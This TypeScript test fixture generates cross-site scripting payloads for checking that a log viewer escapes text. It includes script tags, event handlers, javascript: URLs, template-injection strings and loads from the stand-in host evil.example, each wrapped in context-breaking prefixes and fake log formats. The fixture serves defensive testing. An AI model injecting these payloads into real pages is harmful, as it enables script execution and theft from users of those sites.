/* Texts that would do something if a page took them for anything but text. Each runs `hit()` or asks EVIL. */

export const EVIL = 'https://evil.example';

const SCRIPTS: string[] = [
  '<script>hit()</script>',
  `<script src="${EVIL}/a.js"></script>`,
  `<img src="${EVIL}/a.png" onerror="hit()">`,
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  `<svg><image href="${EVIL}/a.svg"></svg>`,
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<object data="${EVIL}/a.swf"></object>`,
  `<embed src="${EVIL}/a.swf">`,
  `<video src="${EVIL}/a.mp4" onerror=hit()></video>`,
  `<audio><source src="${EVIL}/a.mp3" onerror=hit()></audio>`,
  `<link rel="stylesheet" href="${EVIL}/a.css">`,
  `<link rel="prefetch" href="${EVIL}/a">`,
  `<style>@import url(${EVIL}/a.css);</style>`,
  `<div style="background:url(${EVIL}/a.png)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/away">`,
  `<base href="${EVIL}/">`,
  '<details open ontoggle=hit()>x</details>',
  '<input autofocus onfocus=hit()>',
  `<form action="${EVIL}/form"><button autofocus>x</button></form>`,
  '<a href="javascript:hit()">x</a>',
  'javascript:hit()',
  'data:text/html,<script>hit()</script>',
  '<math><mi xlink:href="javascript:hit()">x</mi></math>',
  '<template><img src=x onerror=hit()></template>',
  '<body onload=hit()>',
  '<dialog open onclose=hit()><form method=dialog><button>x</button></form></dialog>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a careless template would run
  '${hit()}',
  '{{constructor.constructor("hit()")()}}',
];

/** Ways out of where a text may have been put. */
const BREAKS: ((script: string) => string)[] = [
  (script) => script,
  (script) => `">${script}`,
  (script) => `'>${script}`,
  (script) => `--></textarea></title></style></script>${script}`,
];

/** Where logs have texts. */
const LINES: ((text: string) => string)[] = [
  (text) => text,
  (text) => `Receiving event in JS CallAlerting with params {name = ${text} ; id = 1 ; }`,
  (text) => `Executing JS command: say with params [ ${text} ]`,
  (text) => `print: ${JSON.stringify({ text, [text]: 1, __proto__: text })}`,
  (text) => `Error: ${text}\n    at ${text} (scenario:1:1)`,
  (text) => `HTTP request ${EVIL}/?${text} finished with status 200`,
  (text) => `\u202e${text}\u202c\u0000\u001b[31m${text.replaceAll('<', '&lt;')}`,
  (text) => `SIP/2.0 200 OK From: "${text}" <sip:1@example.com>;tag=${text}`,
];

export const TEXTS: string[] = SCRIPTS.flatMap((script) => BREAKS.map((out) => out(script)));

/** Lines of a log, each with a text in it. */
export const LOG_LINES: string[] = TEXTS.flatMap((text) => LINES.map((line) => line(text)));
